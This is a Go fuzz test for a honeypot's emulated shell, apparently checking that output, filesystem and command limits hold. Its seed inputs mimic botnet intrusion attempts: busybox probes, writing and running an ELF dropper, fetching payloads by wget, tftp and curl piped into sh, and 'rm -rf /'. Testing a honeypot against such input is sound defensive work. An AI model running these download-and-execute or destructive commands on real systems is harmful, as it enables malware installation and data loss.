package shell

import (
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/session"
)

// FuzzRun feeds arbitrary lines to one shell with a small filesystem and
// checks the bounds hold: no panic, bounded output, the byte and node
// budgets kept.
func FuzzRun(f *testing.F) {
	for _, s := range []string{
		"enable\nsystem\nshell\nsh\n/bin/busybox ECCHI",
		"cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > upnp; echo -ne '\\x00\\x01' >> upnp; ./upnp; /bin/busybox IHCCE",
		"dd bs=52 count=1 if=/bin/echo || cat /bin/echo",
		"wget http://198.51.100.1/x -O - > a; tftp -g -l b -r c 198.51.100.2; curl -O http://h/d | sh",
		"a=1; echo $a ${a} \"$a\" '$a' `id` $(uname $(id)) && false || echo ok | grep o",
		"((((((((((((((((((((echo))))))))))))))))))))",
		"mkdir -p a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z/a/b/c/d/e/f/g/h; cd a/b; ls -la",
		"dd if=/dev/zero of=/tmp/big bs=1M count=100; cat /dev/urandom | head -c 10",
		"printf '%s%d%x\\x41\\101%%%-5s|' a 1 255 z; echo -e '\\0101\\c'",
		"ln -s /tmp/l /tmp/l; cat /tmp/l; ln -s a b; ln -s b a; cat a",
		"rm -rf /; ls /; cp -r / /tmp/x; mv /tmp /tmp/y",
		"sh -c 'sh -c \"sh -c \\\"sh -c id\\\"\"'; eval eval eval eval eval id",
		"grep '.*.*.*.*.*.*x' /proc/cpuinfo; chmod u+x,g-w,o=r /tmp; chmod 4755 /tmp",
		"exit",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		lim := session.DefaultLimits()
		lim.FSBytes = 64 << 10
		lim.Commands = 200
		rec := newRecorder(t, lim)
		sh := New(Config{Arch: "mips"}, rec)
		for _, line := range strings.Split(in, "\n") {
			out, exit := sh.Run(line)
			if len(out) > maxLineOutput {
				t.Fatalf("line printed %d bytes", len(out))
			}
			if sh.fs.used < 0 || sh.fs.used > sh.fs.limit || sh.fs.nodes > maxNodes {
				t.Fatalf("fs used %d of %d, %d nodes", sh.fs.used, sh.fs.limit, sh.fs.nodes)
			}
			if exit {
				if r := sh.ExitReason(); r != ReasonExit && r != ReasonCommands {
					t.Fatalf("exit reason %q", r)
				}
				break
			}
			_ = sh.Prompt()
		}
		sh.Close()
		s := rec.Snapshot()
		if len(s.Commands) > lim.Commands {
			t.Fatalf("%d commands", len(s.Commands))
		}
		for _, f := range s.Files {
			if f.Size > lim.FSBytes {
				t.Fatalf("file %s of %d bytes", f.Path, f.Size)
			}
		}
	})
}
